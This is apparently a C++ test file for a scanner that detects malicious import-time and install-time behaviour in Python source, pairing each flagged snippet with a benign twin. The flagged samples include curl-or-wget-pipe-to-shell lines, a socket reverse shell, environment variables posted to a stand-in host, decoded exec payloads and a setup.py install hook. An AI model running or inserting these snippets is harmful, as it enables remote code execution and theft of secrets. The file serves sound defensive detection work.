// What Python source does by itself: each bad case with its benign twin. Nothing here is ever run, and no address in it exists.
#include "formats/python_source.hpp"

#include <catch2/catch.hpp>

#include "examined.hpp"

using namespace headgate;

namespace {

struct Seen {
    Evidence evidence;
    bool exhausted = false;
    std::string names() const {
        std::string all;
        for (const Trait& trait : evidence.traits) all += (all.empty() ? "" : " ") + trait.trait;
        return all;
    }
};

Seen look(std::string_view source, const formats::PythonRole& role = {}, const Limits& limits = {}) {
    Seen seen;
    Budget budget(limits);
    formats::ParseContext context{limits, budget, seen.evidence, "m.py", {}, 0};
    REQUIRE(tests::shipped_words() != nullptr);
    formats::examine_python(as_bytes(source), role, *tests::shipped_words(), context);
    seen.exhausted = budget.exhausted();
    return seen;
}

std::string at_import(std::string_view source) { return look(source).names(); }

constexpr formats::PythonRole kInstalled{"install", true, true};

struct Pair {
    const char* trait;
    const char* bad;
    const char* twin;            // the same words, harmless where they stand
    const char* of_twin = "";    // its traits
};

const Pair kPairs[] = {
    {"decoded-code-at-import", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
     "import base64\nICON = base64.b64decode('cHJpbnQoMSk=')\nexec('x = 1')\n"},
    {"decoded-code-at-import decoded-code-at-import", "from base64 import b64decode as d\nimport zlib as z\nx = z.decompress(d(b'eJw='))\ny = x\neval(compile(y, '', 'exec'))\n",
     "from base64 import b64decode as d\nimport zlib as z\ndef load(b):\n    return eval(z.decompress(d(b)))\n"},
    {"decoded-code-at-import", "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'xx'))\n",
     "_ = lambda x: __import__('zlib').decompress(x)\n"},
    {"decoded-code-at-import", "exec(''.join(map(chr, [112, 114])))\n", "exec(''.join(['a', '=', '1']))\n"},
    {"decoded-code-at-import", "exec(bytes([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16]).decode())\n",
     "T = bytes([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16])\nexec('x = 1')\nexec('a%d%d = 1' % (1, 2))\n"},
    {"decoded-code-at-import", "exec('txet'[::-1])\n", "exec('text'[::1])\n"},
    {"decoded-code-at-import", "from cryptography.fernet import Fernet\nclass A:\n    def run(self):\n        self.stage(Fernet(b'k').decrypt(b'x'))\n    def stage(self, p):\n        exec(p)\nA().run()\n",
     "from cryptography.fernet import Fernet\nclass A:\n    def run(self):\n        self.stage(Fernet(b'k').decrypt(b'x'))\n    def stage(self, p):\n        exec(p)\n"},
    {"decoded-code-at-import", "exec('cHJp'.decode('base64'))\n", "exec('cHJp'.decode('utf-8'))\n"},
    {"decoded-code-at-import", "import base64\nf'{eval(base64.b64decode(X))}'\n", "import base64\nf'{len(base64.b64decode(X))}'\n"},
    {"decoded-objects-at-import", "import pickle, base64\nT = pickle.loads(base64.b64decode('gASV'))\n", "import pickle\nT = pickle.loads(open('t').read())\n"},
    {"network-at-import downloaded-code-at-import", "from urllib.request import urlopen\nexec(urlopen('https://code.example/x').read())\n",
     "from urllib.request import urlopen\ndef get():\n    return urlopen('https://code.example/x').read()\n"},
    {"network-at-import downloaded-code-at-import", "import urllib.request as r\ndef go():\n    with r.urlopen('https://code.example/x') as f:\n        text = f.read().decode()\n    exec(text)\ngo()\n",
     "import urllib.request as r\ndef go():\n    with r.urlopen('https://code.example/x') as f:\n        text = f.read().decode()\n    exec(text)\nif __name__ == '__main__':\n    go()\n"},
    {"environment-sent-at-import", "import os, requests, threading\ndef send():\n    d = dict(os.environ)\n    requests.post('https://code.example/c', json={'e': d})\nthreading.Thread(target=send).start()\n",
     "import os, requests\ndef send():\n    d = os.environ['TOKEN']\n    requests.post('https://code.example/c', json={'e': d})\n"},
    {"environment-sent-at-import", "import socket, requests\nrequests.get('https://code.example/' + socket.gethostname())\n",
     "import socket, requests\nHOST = socket.gethostname()\nsession = requests.Session()\n"},
    {"network-at-import", "import requests\nsession = requests.Session()\nsession.get('https://code.example/')\n",
     "import requests\nsession = requests.Session()\nsession.headers['a'] = 'b'\n"},
    {"process-at-import", "import subprocess\nV = subprocess.check_output(['git', 'describe'])\n", "import subprocess\nV = lambda: subprocess.check_output(['git', 'describe'])\n"},
    {"fetches-and-runs-at-import", "import os\nos.system('curl -s https://code.example/x | sh')\n", "import os\nos.system('git describe | sort')\n", "process-at-import"},
    {"fetches-and-runs-at-import", "getattr(__import__('o' + 's'), 'sys' + 'tem')('wget -q http://code.example/x && chmod +x x')\n",
     "getattr(__import__('o' + 's'), 'get' + 'cwd')()\n"},
    {"decoded-command-at-import", "import os, base64\nos.system(base64.b64decode('bHM='))\n", "import os, base64\nos.system('ls')\n", "process-at-import"},
    {"network-at-import remote-shell-at-import remote-shell-at-import",
     "import socket, os, pty\ns = socket.socket()\ns.connect(('code.example', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
     "import os\nos.dup2(1, 2)\n"},
    {"fetches-and-runs-at-import", "exec('import os\\nos.system(\"curl http://code.example/|bash\")')\n", "exec('import os\\nx = os.sep')\n"},
    {"unusual-encoding", "# -*- coding: utf-7 -*-\nx = 1\n", "# -*- coding: utf-8 -*-\nx = 1\n"},
    {"reordered-text", "x = 1 # \xE2\x80\xAE\n", "x = 1 # \xD7\x90\n"},
};

}  // namespace

TEST_CASE("python: what runs when a module is imported is told, and its benign twin is not") {
    for (const Pair& pair : kPairs) {
        CAPTURE(pair.bad, pair.twin);
        CHECK(at_import(pair.bad) == pair.trait);
        CHECK(at_import(pair.twin) == pair.of_twin);
    }
}

TEST_CASE("python: a trait has its line and the call") {
    const Seen seen = look("import os\n\nos.system(\n  'ls')\n");
    REQUIRE(seen.evidence.traits.size() == 1);
    CHECK(seen.evidence.traits[0].where.line == 3U);
    CHECK(seen.evidence.traits[0].where.path == "m.py");
    CHECK(seen.evidence.traits[0].detail == "os.system(ls)");
}

TEST_CASE("python: code behind two hundred blanks, texts of escapes, and runs that nobody sees") {
    CHECK(at_import("import os" + std::string(250, ' ') + ";x = 1\n") == "far-right");
    CHECK(at_import("x = 1" + std::string(250, ' ') + "# a comment\n").empty());
    CHECK(at_import("x = [1," + std::string(100, ' ') + "2]\n").empty());
    std::string escaped = "exec('";
    for (int i = 0; i < 60; ++i) escaped += "\\x61";
    CHECK(at_import(escaped + "')\n") == "decoded-code-at-import");
    std::string hidden = "x = '";
    for (int i = 0; i < 40; ++i) hidden += "\xF3\xA0\x84\x80";
    CHECK(at_import(hidden + "'\n") == "invisible-text");
    CHECK(at_import("x = '\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x92\xBB\xEF\xB8\x8F'\n").empty());
    CHECK(at_import("X = '" + std::string(5000, 'A') + "'\n") == "encoded-literal");
}

TEST_CASE("python: in setup.py every function counts, and the commands that it replaces are told") {
    const std::string source = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n"
                               "class Hook(install):\n    def run(self):\n        os.system('curl https://code.example/x | sh')\nsetup(cmdclass={'install': Hook})\n";
    CHECK(look(source, kInstalled).names() == "install-command fetches-and-runs-at-install");
    CHECK(at_import(source).empty());
    CHECK(look("from setuptools import setup\nexec(open('version.py').read())\nsetup(name='x')\n", kInstalled).names().empty());
}

TEST_CASE("python: names are the module's own before they are anybody's") {
    CHECK(at_import("def eval(x):\n    return x\nimport base64\neval(base64.b64decode('x'))\n").empty());
    CHECK(at_import("from re import compile\nimport base64\ncompile(base64.b64decode('x'))\n").empty());
    CHECK(at_import("from os import *\nsystem('ls')\n") == "process-at-import");
    CHECK(at_import("import base64\ndef f(data):\n    return data\ndata = 'x = 1'\ndef g():\n    data = base64.b64decode('x')\nexec(data)\n").empty());
    CHECK(at_import("from . import os\nos.system('ls')\n").empty());
    CHECK(at_import("try:\n    import requests\nexcept ImportError:\n    pass\nfrom typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    requests.get('x')\n").empty());
}

TEST_CASE("python: what cannot be followed is a trait and no more") {
    CHECK(at_import("import os\nos.system('ls')\n'''\n") == "unreadable-source process-at-import");
    CHECK(at_import(std::string("x = 1\n\0", 7)) == "unreadable-source");
    const Seen large = look(std::string((16U << 20U) + 1, '\n'));
    CHECK(large.names() == "oversized-source");
}

TEST_CASE("python: a source that takes more steps than there are is a finding") {
    Limits limits;
    limits.steps = 10;
    const Seen seen = look(std::string(1000, '\n'), {}, limits);
    CHECK(seen.exhausted);
    REQUIRE(seen.evidence.findings.size() == 1);
    CHECK(seen.evidence.findings[0].id == "package.unscannable");
}

TEST_CASE("python: what is said of one thing is said three times at most") {
    std::string source = "import os\n";
    for (int i = 0; i < 100; ++i) source += "os.system('ls')\n";
    CHECK(look(source).evidence.traits.size() == 3);
}

TEST_CASE("python: every prefix of a bad source is read to its end") {
    for (const Pair& pair : kPairs) {
        const std::string source = pair.bad;
        for (std::size_t length = 0; length < source.size(); ++length) {
            const Seen seen = look(std::string_view(source).substr(0, length));
            CHECK(seen.evidence.findings.empty());
        }
    }
}

TEST_CASE("python: depth and length take no more than their share") {
    CHECK(at_import(std::string(150, '(') + std::string(150, ')') + "\n").empty());
    std::string chain = "x";
    for (int i = 0; i < 20000; ++i) chain += ".y()";
    CHECK(at_import(chain + "\n").empty());
    std::string flows = "import base64\na0 = base64.b64decode('x')\n";
    for (int i = 1; i < 2000; ++i) flows += "a" + std::to_string(i) + " = a" + std::to_string(i - 1) + "\n";
    CHECK(at_import(flows + "exec(a1999)\n") == "decoded-code-at-import");
    std::string nested = "exec('x = 1')";
    for (int i = 0; i < 6; ++i) {
        std::string quoted;
        for (const char c : nested) quoted += c == '\'' || c == '\\' ? std::string("\\") + c : std::string(1, c);
        nested = "exec('" + quoted + "')";
    }
    CHECK(at_import(nested + "\n").empty());
}

TEST_CASE("python: a thousand of everything stays within its share") {
    std::string lambdas;
    for (int i = 0; i < 20000; ++i) lambdas += "lambda: ";
    CHECK(at_import("x = " + lambdas + "1\n").empty());
    std::string same = "import os\n";
    for (int i = 0; i < 5000; ++i) same += "def f():\n f()\n";
    CHECK(at_import(same + "def f():\n os.system('ls')\nf()\n") == "process-at-import");
    std::string calls = "import base64\ndef f(x):\n exec(x)\n";
    for (int i = 0; i < 20000; ++i) calls += "f('x')\n";
    CHECK(at_import(calls).empty());
    CHECK(at_import(calls + "f(base64.b64decode('x'))\n") == "decoded-code-at-import");
    std::string names = "x = [";
    for (int i = 0; i < 200000; ++i) names += "a.b(c),";
    CHECK(at_import(names + "]\n") == "oversized-source");       // more tokens than one statement may have
}
